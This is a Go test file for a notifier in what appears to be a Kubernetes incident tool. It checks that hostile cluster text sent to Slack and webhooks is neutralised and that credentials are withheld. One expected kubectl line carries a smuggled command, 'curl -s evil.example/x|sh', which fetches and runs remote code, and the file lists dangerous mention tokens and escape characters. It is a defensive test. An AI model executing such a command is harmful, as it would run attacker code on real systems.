package notifier

import (
	"context"
	"encoding/json"
	"flag"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kaar-dev/kaar/pkg/events"
	"github.com/kaar-dev/kaar/pkg/events/text/texttest"
)

var update = flag.Bool("update", false, "rewrite testdata/untrusted/*.golden")

// golden compares got with testdata/untrusted/name exactly (rewritten
// with -update).
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "untrusted", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != string(want) {
		t.Errorf("%s differs (rerun with -update if intended):\n--- got\n%s\n--- want\n%s", path, got, want)
	}
}

// mrkdwnTexts collects every mrkdwn text of the blocks.
func mrkdwnTexts(v any, out *[]string) {
	switch x := v.(type) {
	case map[string]any:
		if x["type"] == "mrkdwn" {
			if s, ok := x["text"].(string); ok {
				*out = append(*out, s)
			}
		}
		for _, c := range x {
			mrkdwnTexts(c, out)
		}
	case []any:
		for _, c := range x {
			mrkdwnTexts(c, out)
		}
	}
}

// TestHostileWorkloadIsInertInSlack renders the hostile workload's
// incident and plan (pkg/events/text/texttest) as the Slack message: no
// mention, link, formatting or escape sequence from the cluster survives,
// no credential is shown, and the kubectl line keeps its shell quotes.
func TestHostileWorkloadIsInertInSlack(t *testing.T) {
	in, p := texttest.Incident(), texttest.Plan()
	th := &thread{Key: in.ID, Incident: &in, Transition: events.TransitionDetected, Observation: 1, Plan: &p, Status: StatusProposed}
	fallback, blocks := render(th, p.CreatedAt.Add(time.Minute))
	b, err := json.MarshalIndent(map[string]any{"text": fallback, "blocks": blocks}, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	b = append(b, '\n')
	var decoded any
	if err := json.Unmarshal(b, &decoded); err != nil {
		t.Fatal(err)
	}
	var texts []string
	mrkdwnTexts(decoded, &texts)
	all := strings.Join(texts, "\n")
	// Slack's own tokens kaar writes: dates and emoji. Nothing else may
	// open a <…> token.
	for _, tok := range []string{"<!channel>", "<!here>", "<@U024BE7LH>", "<https://", "\x1b", "\a", "\u202e", "@here", "@channel"} {
		if strings.Contains(all, tok) {
			t.Errorf("Slack text contains %q", tok)
		}
	}
	if strings.Count(all, "<") != strings.Count(all, "<!date^") {
		t.Errorf("a <…> token other than kaar's dates reached Slack:\n%s", all)
	}
	for _, s := range texttest.Secrets {
		if strings.Contains(all, s) {
			t.Errorf("Slack text carries credential %q", s)
		}
	}
	for _, want := range []string{
		"&lt;!channel&gt; \u2217now\u2217", // the incident message: mention and bold disarmed
		"`kubectl -n shop set image deployment/checkout 'app=registry.example/checkout:1.4;curl -s evil.example/x|sh'`",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("Slack text lacks %q:\n%s", want, all)
		}
	}
	// Every code span closes on its line: an odd number of backticks
	// would let cluster text out of its span.
	for _, l := range strings.Split(all, "\n") {
		if strings.Count(l, "`")%2 != 0 {
			t.Errorf("unbalanced code span: %q", l)
		}
	}
	golden(t, "slack.json.golden", b)
}

// TestHostileWorkloadWebhookPayloadIsInert delivers the hostile workload's
// incident to a webhook receiver: the signed body (the bus envelope) has
// the credentials withheld and escape sequences and bidi overrides gone.
func TestHostileWorkloadWebhookPayloadIsInert(t *testing.T) {
	in := texttest.Incident()
	ev := events.IncidentEvent{Transition: events.TransitionDetected, Incident: in, ObservedAt: in.LastSeen, Observation: 1}
	env, err := events.New(ev.Transition.EventType(), events.SourceWatcher, in.Cluster, in.ID, ev)
	if err != nil {
		t.Fatal(err)
	}
	env.ID, env.Time = "0193b0c4-0000-7000-8000-000000000001", in.LastSeen
	body, err := json.Marshal(env)
	if err != nil {
		t.Fatal(err)
	}
	got := make(chan []byte, 1)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got <- b
	}))
	t.Cleanup(srv.Close)
	s := &Service{cfg: Config{DeliveryTimeout: 5 * time.Second}, hc: srv.Client(), now: func() time.Time { return in.LastSeen },
		log: slog.New(slog.DiscardHandler)}
	r := &receiver{cfg: WebhookConfig{Name: "golden", URL: srv.URL, Secret: "s"}, s: s}
	if _, err := r.deliver(context.Background(), env, body, 1); err != nil {
		t.Fatal(err)
	}
	payload := <-got
	for _, bad := range []string{`\u001b`, `\u0007`, "\u202e", `\u202e`} {
		if strings.Contains(string(payload), bad) {
			t.Errorf("webhook payload contains %q", bad)
		}
	}
	for _, s := range texttest.Secrets {
		if strings.Contains(string(payload), s) {
			t.Errorf("webhook payload carries credential %q", s)
		}
	}
	var pretty any
	if err := json.Unmarshal(payload, &pretty); err != nil {
		t.Fatal(err)
	}
	out, _ := json.MarshalIndent(pretty, "", "  ")
	golden(t, "webhook.json.golden", append(out, '\n'))
}
